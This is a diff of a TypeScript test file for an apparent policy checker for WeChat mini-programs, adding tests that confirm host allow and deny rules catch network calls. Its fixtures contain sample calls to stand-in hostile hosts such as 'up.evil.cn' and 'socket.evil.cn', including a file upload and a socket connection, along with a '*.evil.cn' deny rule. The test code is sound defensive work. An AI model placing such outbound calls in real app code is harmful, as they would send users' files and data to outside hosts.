@@ -17,10 +17,14 @@ const app = {
     '<button bindtap="onSend">A</button><button bindtap="onUnknown">B</button><button bindtap="onCopy">C</button>',
 }
 
-function codes(policy: Partial<Policy>): readonly string[] {
-  const [compilation] = compile(memoryHost(app), '')
+function graphOf(files: Readonly<Record<string, string>>) {
+  const [compilation] = compile(memoryHost(files), '')
   if (compilation === null) throw new Error('no app')
-  return restrictions(compilation.graph, { ...noPolicy, ...policy }).map(
+  return compilation.graph
+}
+
+function codes(policy: Partial<Policy>): readonly string[] {
+  return restrictions(graphOf(app), { ...noPolicy, ...policy }).map(
     ({ code, params, at }) => `${code} ${String(params['action']).split('#')[1] ?? ''} ${at?.line ?? 0}`,
   )
 }
@@ -40,6 +44,38 @@ describe('the lists of a policy', () => {
       'policy/host-unknown onUnknown 3',
     ])
     expect(codes({ hosts: { allow: ['api.example.com'], deny: [] } })).toEqual(['policy/host-unknown onUnknown 3'])
+  })
+
+  it('find whatever a host is named for: uploads, downloads, sockets, web views, and what is asked as the app starts', () => {
+    const files = {
+      'app.json': '{"pages":["pages/home/home"]}',
+      'app.js': "App({ onLaunch() { wx.request({ url: 'https://start.evil.cn/a' }) } })",
+      'pages/home/home.js': `Page({
+        data: { page: 'https://data.evil.cn/' },
+        onUp() { wx.uploadFile({ url: 'https://up.evil.cn/a', filePath: 'x', name: 'f' }) },
+        onDown() { wx.downloadFile({ url: 'https://down.evil.cn/a' }) },
+        onSocket() { wx.connectSocket({ url: 'wss://socket.evil.cn' }) },
+      })`,
+      'pages/home/home.wxml': `<web-view src="https://page.evil.cn/x"/><web-view src="{{page}}"/>
+        <button bindtap="onUp">A</button><button bindtap="onDown">B</button><button bindtap="onSocket">C</button>`,
+    }
+    const found = restrictions(graphOf(files), { ...noPolicy, hosts: { deny: ['*.evil.cn'] } })
+    expect(found.map(({ params }) => params['host']).sort()).toEqual(
+      ['data', 'down', 'page', 'socket', 'start', 'up'].map((name) => `${name}.evil.cn`),
+    )
+  })
+
+  it('say once how many hosts nobody can tell', () => {
+    const files = {
+      ...app,
+      'pages/home/home.js': `const { base } = wx.getStorageSync('config')
+        Page({ onA() { wx.request({ url: base + '/a' }); wx.request({ url: base + '/b' }) } })`,
+      'pages/home/home.wxml': '<button bindtap="onA">A</button>',
+    }
+    const found = restrictions(graphOf(files), { ...noPolicy, hosts: { allow: ['a.b'], deny: [] } })
+    expect(found.map(({ code, params }) => [code, params])).toEqual([
+      ['policy/host-unknown', { count: 2, action: 'pages/home/home#onA' }],
+    ])
   })
 
   it('find APIs that are denied or not allowed; moving between pages needs no leave', () => {
